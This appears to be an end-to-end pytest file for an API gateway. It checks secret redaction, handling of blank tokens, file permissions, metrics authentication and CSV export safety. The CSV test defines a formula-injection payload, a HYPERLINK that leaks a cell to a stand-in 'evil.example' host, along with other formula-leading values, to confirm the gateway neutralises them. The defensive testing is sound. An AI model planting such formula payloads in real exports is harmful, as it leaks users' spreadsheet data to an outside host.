"""Secrets and operator slips, attacked over real sockets (issue #31): an empty or blank
secret enables nothing, a URL's credentials are never shown, a database URL that can not
be parsed is reported without its password, the files on disk are private, CSV cells
can not carry a formula, and /metrics can ask for a scrape token."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import socket
import stat
from collections.abc import Callable
from pathlib import Path

import httpx
import openai
import pytest

from tests.e2e.test_startup import cli, environment, terminal
from tests.support.procs import Gateway, GatewaySpec, Sim, free_port, run_cli

Make = Callable[..., Gateway]
ADMIN = "adm-e2e-secrets-0123456789"
PROMPT = [{"role": "user", "content": "ping"}]


@pytest.mark.parametrize(
    "variable",
    [
        "TOKENGATE_ADMIN_KEY",
        "TAOTOKEN_API_KEY",
        "TOKENGATE_METRICS__TOKEN",
        "TOKENGATE_DATABASE_URL",
        "TOKENGATE_REDIS__PASSWORD",
    ],
)
@pytest.mark.parametrize("blank", ["", "   "])
def test_a_blank_secret_stops_serve_and_check_naming_the_variable(
    sim: Sim, tmp_path: Path, variable: str, blank: str
) -> None:
    env = environment(tmp_path, sim.url, **{variable: blank})
    port = str(free_port())
    served = cli(env, "serve", "--port", port, timeout=60)
    assert served.returncode == 2, served.stderr
    assert variable in served.stderr and "empty" in served.stderr
    assert "listening on" not in served.stderr and "Traceback" not in served.stderr
    checked = cli(env, "check", "--port", port)
    assert checked.returncode == 2, checked.stdout + checked.stderr
    assert variable in checked.stdout + checked.stderr


def test_a_bearer_with_nothing_after_it_authenticates_nowhere(sim: Sim, make_gateway: Make) -> None:
    spec = GatewaySpec(
        settings={"admin_key": ADMIN}, env={"TOKENGATE_METRICS__TOKEN": "scrape-tok-1"}
    )
    gw = make_gateway(spec, sim.url)
    for blank in ("Bearer ", "Bearer", "Bearer    ", "bearer \t"):
        for path in (
            "/admin/status",
            "/admin/usage",
            "/admin/ui/snapshot",
            "/metrics",
            "/v1/models",
        ):
            status, body = raw_get(gw.port, path, f"authorization: {blank}")
            assert status == 401, (path, blank, status)
            assert json.loads(body)["error"]["type"] == "authentication_error"
    ok = {"authorization": f"Bearer {ADMIN}"}
    assert httpx.get(f"{gw.url}/admin/status", headers=ok).status_code == 200


def raw_get(port: int, path: str, header: str) -> tuple[int, bytes]:
    """A GET with a header as written (HTTP clients refuse trailing blanks in a value)."""
    with socket.create_connection(("127.0.0.1", port), timeout=30) as sock:
        sock.sendall(
            f"GET {path} HTTP/1.1\r\nhost: 127.0.0.1:{port}\r\n{header}\r\n"
            "connection: close\r\n\r\n".encode("latin-1")
        )
        data = b""
        while chunk := sock.recv(65536):
            data += chunk
    head, _, body = data.partition(b"\r\n\r\n")
    return int(head.split()[1]), body


def test_metrics_asks_for_its_scrape_token_when_one_is_set(sim: Sim, make_gateway: Make) -> None:
    gw = make_gateway(GatewaySpec(env={"TOKENGATE_METRICS__TOKEN": "scrape-tok-1"}), sim.url)
    assert httpx.get(f"{gw.url}/metrics").status_code == 401
    wrong = httpx.get(f"{gw.url}/metrics", headers={"authorization": "Bearer scrape-tok-2"})
    assert wrong.status_code == 401 and "scrape-tok" not in wrong.text
    right = httpx.get(f"{gw.url}/metrics", headers={"authorization": "Bearer scrape-tok-1"})
    assert right.status_code == 200 and "tokengate_requests_total" in right.text
    assert httpx.get(f"{gw.url}/health/ready").status_code == 200  # probes need no token
    assert "scrape-tok-1" not in terminal(gw) + gw.log_path.read_text()


def test_an_upstream_url_with_credentials_is_shown_nowhere_with_them(
    sim: Sim, make_gateway: Make, tmp_path: Path
) -> None:
    secret = "pw-Zq81xRcv"
    base = f"http://svc-user:{secret}@127.0.0.1:{sim.port}"
    gw = make_gateway(GatewaySpec(settings={"admin_key": ADMIN}), base)
    admin = {"authorization": f"Bearer {ADMIN}"}
    with contextlib.suppress(openai.APIError):  # the sim wants no Basic credentials
        gw.openai().chat.completions.create(model="gpt-4o", messages=PROMPT, max_tokens=4)
    shown = {
        "ready": httpx.get(f"{gw.url}/health/ready").text,
        "status": httpx.get(f"{gw.url}/admin/status", headers=admin).text,
        "snapshot": httpx.get(f"{gw.url}/admin/ui/snapshot", headers=admin).text,
        "banner": terminal(gw),
        "log": gw.log_path.read_text(),
    }
    checked = cli(
        environment(tmp_path, base, TOKENGATE_HEALTH_CHECK__ENABLED="true"),
        "check",
        "--port",
        str(free_port()),
    )
    shown["check"] = checked.stdout + checked.stderr
    for where, text in shown.items():
        assert secret not in text, where
        assert "svc-user:***@" in text or "svc-user" not in text, where
    assert f"svc-user:***@127.0.0.1:{sim.port}" in shown["ready"]


PASSWORD = "sEcr3tA@sEcr3tB:sEcr3tC"


@pytest.mark.parametrize("command", [["serve"], ["check"], ["db", "current"]])
def test_a_database_url_that_can_not_be_parsed_is_reported_without_its_password(
    sim: Sim, tmp_path: Path, command: list[str]
) -> None:
    url = f"postgresql://gw:{PASSWORD}@db.internal.test:{free_port()}/tg"
    env = environment(tmp_path, sim.url, TOKENGATE_DATABASE_URL=url)
    args = [*command, "--port", str(free_port())] if command[0] != "db" else command
    done = cli(env, *args, timeout=60)
    out = done.stdout + done.stderr
    assert done.returncode == 2, out
    assert "database.url" in out and "Traceback" not in out
    for part in ("sEcr3t", "3tA", "3tB", "3tC", "db.internal"):
        assert part not in out, part


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_the_database_its_wal_and_backups_are_private(sim: Sim, make_gateway: Make) -> None:
    gw = make_gateway(GatewaySpec(), sim.url)
    data = gw.workdir / "state" / "db"
    gw.stop()
    gw.env["TOKENGATE_DATABASE__PATH"] = str(data / "tokengate.sqlite3")
    gw.restart()
    gw.openai().chat.completions.create(model="gpt-4o", messages=PROMPT, max_tokens=4)
    files = sorted(data.iterdir())
    assert {p.name for p in files} >= {"tokengate.sqlite3", "tokengate.sqlite3-wal"}
    for path in files:
        assert _mode(path) == 0o600, (path.name, oct(_mode(path)))
    assert _mode(data) == 0o700 and _mode(data.parent) == 0o700
    target = gw.workdir / "backups" / "one.sqlite3"
    done = run_cli(*_db_args(gw), "backup", str(target), env=gw.env)
    assert done.returncode == 0, done.stderr
    assert _mode(target) == 0o600 and _mode(target.parent) == 0o700


def _db_args(gw: Gateway) -> list[str]:
    return ["db", *gw.args]


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1)'
HOSTILE = (FORMULA, "+cmd", "-2+3", "@SUM(1)")  # tab and CR: tests/unit/billing


def test_usage_csv_cells_can_not_start_a_formula(
    make_sim: Callable[..., Sim], make_gateway: Make
) -> None:
    # an upstream that serves models with such names: the ledger records what was served
    sim = make_sim("--models", ",".join(("gpt-4o", *HOSTILE)))
    gw = make_gateway(GatewaySpec(settings={"admin_key": ADMIN}, keys={"alice": {}}), sim.url)
    for model in (*HOSTILE, "gpt-4o"):
        r = httpx.post(
            f"{gw.url}/v1/chat/completions",
            json={"model": model, "messages": PROMPT, "max_tokens": 4},
            headers=gw.headers(),
        )
        assert r.status_code == 200, (model, r.text)
    served = httpx.get(
        f"{gw.url}/admin/usage",
        params={"group_by": "model"},
        headers={"authorization": f"Bearer {ADMIN}", "accept": "text/csv"},
    )
    done = run_cli(
        "usage",
        "--target",
        gw.url,
        "--by",
        "model",
        "--format",
        "csv",
        env={"TOKENGATE_ADMIN_KEY": ADMIN, "PATH": "/usr/bin:/bin"},
    )
    assert done.returncode == 0, done.stdout + done.stderr
    for text in (served.text, done.stdout):
        rows = list(csv.reader(io.StringIO(text)))
        cells = [cell for row in rows for cell in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
        assert "'" + FORMULA in cells, [r[0] for r in rows]  # kept, readable, inert
    assert json.loads(
        httpx.get(f"{gw.url}/admin/usage", headers={"authorization": f"Bearer {ADMIN}"}).text
    )["data"]  # the JSON answer is data, not a spreadsheet: unchanged
